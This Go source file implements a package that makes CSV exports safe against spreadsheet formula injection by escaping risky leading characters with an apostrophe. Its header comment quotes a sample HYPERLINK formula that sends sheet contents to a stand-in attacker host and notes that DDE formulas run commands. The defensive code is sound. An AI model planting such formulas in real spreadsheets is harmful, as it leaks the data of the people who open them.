// Package csvsafe writes CSV that spreadsheets open as data, never as formulas: every CSV and
// XLSX cell GroupCamp writes from what people typed goes through Cell (the Writer does it).
//
// A spreadsheet runs a cell that starts with = + - or @ (Excel also after a leading tab or
// carriage return, and the full-width forms in some locales) as a formula:
// =HYPERLINK("http://evil.test?"&A1, "click") leaks the sheet, DDE formulas run commands. As
// OWASP recommends, such a cell gets a leading apostrophe, which spreadsheets read as "this
// is text" and do not show. Quoting commas, quotes and line breaks is encoding/csv's part.
//
// The escape is exact to undo (Unescape, for an importer reading back an export): a cell that
// already starts with apostrophes before such a character gets one more.
package csvsafe

import (
	"encoding/csv"
	"io"
	"strings"
	"unicode/utf8"
)

// risky reports whether a spreadsheet may read a cell starting with r as a formula.
func risky(r rune) bool {
	switch r {
	case '=', '+', '-', '@', '\t', '\r', '\n',
		'＝', '＋', '－', '＠': // full-width forms, which some spreadsheets take as the ASCII ones
		return true
	}
	return false
}

// needs reports whether s is apostrophes (none or more) before a risky character.
func needs(s string) bool {
	rest := strings.TrimLeft(s, "'")
	if rest == "" {
		return false
	}
	r, _ := utf8.DecodeRuneInString(rest)
	return risky(r)
}

// Cell returns s safe to write as a spreadsheet cell.
func Cell(s string) string {
	if needs(s) {
		return "'" + s
	}
	return s
}

// Unescape undoes Cell: an importer reading a file GroupCamp wrote gets the text back.
func Unescape(s string) string {
	if strings.HasPrefix(s, "'") && needs(s[1:]) {
		return s[1:]
	}
	return s
}

// Row returns a copy of cells, each made safe by Cell.
func Row(cells []string) []string {
	out := make([]string, len(cells))
	for i, c := range cells {
		out[i] = Cell(c)
	}
	return out
}

// Writer is a csv.Writer whose every cell goes through Cell.
type Writer struct {
	*csv.Writer
}

// NewWriter returns a Writer on w.
func NewWriter(w io.Writer) *Writer { return &Writer{Writer: csv.NewWriter(w)} }

// Write writes one record, each cell made safe.
func (w *Writer) Write(record []string) error { return w.Writer.Write(Row(record)) }

// WriteAll writes the records, each cell made safe, and flushes.
func (w *Writer) WriteAll(records [][]string) error {
	for _, r := range records {
		if err := w.Write(r); err != nil {
			return err
		}
	}
	w.Flush()
	return w.Error()
}
